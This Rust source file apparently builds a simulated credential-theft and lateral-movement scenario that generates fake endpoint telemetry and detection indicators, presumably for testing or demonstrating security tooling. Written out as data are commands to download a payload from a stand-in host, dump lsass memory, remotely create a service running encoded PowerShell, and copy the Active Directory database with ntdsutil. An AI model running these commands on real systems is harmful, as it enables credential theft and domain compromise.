//! Hands on a keyboard: passwords are read from memory on a desktop, used to start a service on the application
//! server, and the directory is copied on a domain controller.

use crate::fleet::Role;
use crate::scenario::{Cast, Scenario, Step, at};
use crate::telemetry::programs::{self as on, Program};
use crate::telemetry::{FileChange, Story};
use crate::threat::{Change, Engine, Threat, encoded_command, indicator};

pub(crate) const SCENARIO: Scenario = Scenario {
    name: "credential-theft-lateral",
    about: "credentials stolen on a desktop, used on a server and on a domain controller",
    steps,
};

fn steps(cast: &mut Cast<'_>) -> Vec<Step> {
    let desktop = cast.host(Role::Desktop, 3);
    let server = cast.host(Role::AppServer, 0);
    let controller = cast.host(Role::DomainController, 0);

    let dumper = Threat::new(&desktop, "mdx64.exe", Engine::Behavioral)
        .path(r"\Device\HarddiskVolume3\Users\{user}\AppData\Local\Temp\mdx64.exe")
        .hashed_from("credential-theft-lateral dumper")
        .classified("Infostealer")
        .known_bad()
        .storyline("intruder")
        .ran(r"mdx64.exe --pid lsass --out C:\Users\{user}\AppData\Local\Temp\a.bin", "cmd.exe")
        .indicator(indicator(
            "InfoStealer",
            "Memory of the local security authority was read.",
            &[38],
            &[("Credential Access", &["T1003.001"])],
        ))
        .indicator(indicator(
            "Exploitation",
            "A handle with debug rights was opened on a protected process.",
            &[67],
            &[("Privilege Escalation", &["T1134"])],
        ))
        .told_by(stealing(cast, &desktop, &server, &controller));
    let looks_around = Change::new().indicator(indicator(
        "Discovery",
        "Domain administrators, hosts and trusts were listed.",
        &[190],
        &[("Discovery", &["T1069.002", "T1018", "T1482"])],
    ));

    let script = encoded_command("Get-ChildItem \\\\127.0.0.1\\ADMIN$; whoami /all");
    let service = Threat::new(&server, "wsvchelp.exe", Engine::LateralMovement)
        .path(r"\Device\HarddiskVolume2\Windows\wsvchelp.exe")
        .hashed_from("credential-theft-lateral service")
        .classified("Lateral Movement")
        .ran(&format!(r"C:\Windows\wsvchelp.exe -run powershell.exe -NoP -EncodedCommand {script}"), "services.exe")
        .indicator(indicator(
            "Lateral Movement",
            "A service was created and started from another host.",
            &[345],
            &[("Lateral Movement", &["T1021.002"]), ("Execution", &["T1569.002"])],
        ))
        .indicator(indicator(
            "Evasion",
            "PowerShell ran an encoded command.",
            &[196],
            &[("Execution", &["T1059.001"]), ("Defense Evasion", &["T1027"])],
        ))
        .told_by(service_from(cast, &server, &desktop, &script));

    let copier = Threat::new(&controller, "ntdsutil.exe", Engine::Behavioral)
        .path(r"\Device\HarddiskVolume2\Windows\System32\ntdsutil.exe")
        .hashed_from("credential-theft-lateral directory copy")
        .classified("Infostealer")
        .signed_by("MICROSOFT WINDOWS")
        .ran(r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\dc" q q"#, "wsmprovhost.exe")
        .indicator(indicator(
            "InfoStealer",
            "The directory database was copied.",
            &[40],
            &[("Credential Access", &["T1003.003"])],
        ))
        .indicator(indicator(
            "Lateral Movement",
            "The command came over remote management from another host.",
            &[348],
            &[("Lateral Movement", &["T1021.006"])],
        ))
        .told_by(directory_copied(cast, &controller, &server));

    vec![
        at(0.0).raise("dumper", dumper),
        at(3.0).change("dumper", looks_around),
        at(5.0).raise("service", service),
        at(9.0).raise("controller", copier),
    ]
}

/// A shell behind a remote tool, passwords from memory, a look around, and the way on to the server.
fn stealing(cast: &Cast<'_>, host: &str, server: &str, controller: &str) -> Story {
    let temp = r"C:\Users\{user}\AppData\Local\Temp";
    let mut story = Story::on(host);
    let desktop = story.running(on::EXPLORER);
    let lsass = story.running(on::LSASS);
    let shell = story.start(-420.0, desktop, on::CMD, "cmd.exe");
    story.run(-410.0, shell, on::WHOAMI, "whoami /all");
    story.run(-402.0, shell, on::IPCONFIG, "ipconfig /all");
    let loader = story.start(
        -350.0,
        shell,
        on::POWERSHELL,
        "powershell.exe -NoP -c \"iwr http://cdn.sys-assist.example/m.dat -OutFile $env:TEMP\\mdx64.exe\"",
    );
    story.visit(-349.0, loader, "cdn.sys-assist.example", "203.0.113.201", 80);
    story.fetch(-348.0, loader, "GET", "http://cdn.sys-assist.example/m.dat");
    let dumper = Program::brought("mdx64.exe", &format!(r"{temp}\mdx64.exe"), "credential-theft-lateral dumper");
    story.drop(-346.0, loader, &dumper);
    story.end(-345.0, loader);
    let dumper = story.start(-8.0, shell, dumper, &format!(r"mdx64.exe --pid lsass --out {temp}\a.bin"));
    story.module(-7.5, dumper, r"C:\Windows\System32\dbgcore.dll", "MICROSOFT WINDOWS");
    story.reach(-6.0, dumper, lsass, "Open Remote Process Handle");
    story.file(-4.0, dumper, FileChange::Created, &format!(r"{temp}\a.bin"));
    story.indicate(-0.5, dumper, "InfoStealer", "LsassMemoryRead", "Memory of the local security authority was read.");
    story.end(0.5, dumper);
    for (at, command) in [(1.0, "net group \"Domain Admins\" /domain"), (1.6, "net view /domain")] {
        let net = story.start(at, shell, on::NET, command);
        story.run(at + 0.1, net, on::NET1, &format!(r"C:\Windows\system32\net1{}", &command[3..]));
    }
    story.run(2.2, shell, on::NLTEST, "nltest /domain_trusts /all_trusts");
    story.connect(2.6, shell, &cast.address(controller), 389);
    story.connect(3.2, shell, &cast.address(server), 445);
    story.file(3.6, shell, FileChange::Created, &format!(r"\\{server}\ADMIN$\wsvchelp.exe"));
    story.run(4.0, shell, on::SC, &format!(r"sc.exe \\{server} create wsvchelp binPath= C:\Windows\wsvchelp.exe"));
    story
}

fn administrator(cast: &Cast<'_>, host: &str) -> String {
    let user = cast.user(host);
    let (domain, _) = user.split_once('\\').unwrap_or(("", ""));
    format!(r"{domain}\administrator")
}

fn service_from(cast: &Cast<'_>, host: &str, from: &str, script: &str) -> Story {
    let mut story = Story::on(host);
    let (system, services, lsass) = (story.running(on::SYSTEM), story.running(on::SERVICES), story.running(on::LSASS));
    let helper = Program::brought("wsvchelp.exe", r"C:\Windows\wsvchelp.exe", "credential-theft-lateral service")
        .of_the_machine();
    story.accept(-1.9, system, &cast.address(from), 445);
    story.log_on(-1.8, lsass, &administrator(cast, host), "NETWORK", &cast.address(from));
    story.drop(-1.4, system, &helper);
    story.registry(
        -1.0,
        services,
        r"MACHINE\SYSTEM\ControlSet001\Services\wsvchelp",
        "ImagePath",
        r"C:\Windows\wsvchelp.exe",
    );
    let helper = story.start(
        -0.8,
        services,
        helper,
        &format!(r"C:\Windows\wsvchelp.exe -run powershell.exe -NoP -EncodedCommand {script}"),
    );
    let shell = story.start(-0.5, helper, on::POWERSHELL, &format!("powershell.exe -NoP -EncodedCommand {script}"));
    story.script(-0.3, shell, "Get-ChildItem \\\\127.0.0.1\\ADMIN$; whoami /all");
    story.run(0.2, shell, on::WHOAMI, "whoami /all");
    story.task(1.0, shell, "Task Register", r"\Microsoft\Windows\Maintenance\SvcHelp", r"C:\Windows\wsvchelp.exe");
    story
}

fn directory_copied(cast: &Cast<'_>, host: &str, from: &str) -> Story {
    let mut story = Story::on(host);
    let (system, lsass, remote) = (story.running(on::SYSTEM), story.running(on::LSASS), story.running(on::WSMPROVHOST));
    let administrator = administrator(cast, host);
    story.accept(-3.0, system, &cast.address(from), 5985);
    story.log_on(-2.9, lsass, &administrator, "NETWORK", &cast.address(from));
    story.as_user(remote, &administrator);
    let ntdsutil = on::NTDSUTIL.hashed_from("credential-theft-lateral directory copy");
    let copier =
        story.start(-2.0, remote, ntdsutil, r#"ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\dc" q q"#);
    story.file(-0.6, copier, FileChange::Created, r"C:\Windows\Temp\dc\Active Directory\ntds.dit");
    story.file(-0.4, copier, FileChange::Created, r"C:\Windows\Temp\dc\registry\SYSTEM");
    story.indicate(-0.2, copier, "InfoStealer", "DirectoryCopy", "The directory database was copied.");
    story.end(4.0, copier);
    story
}
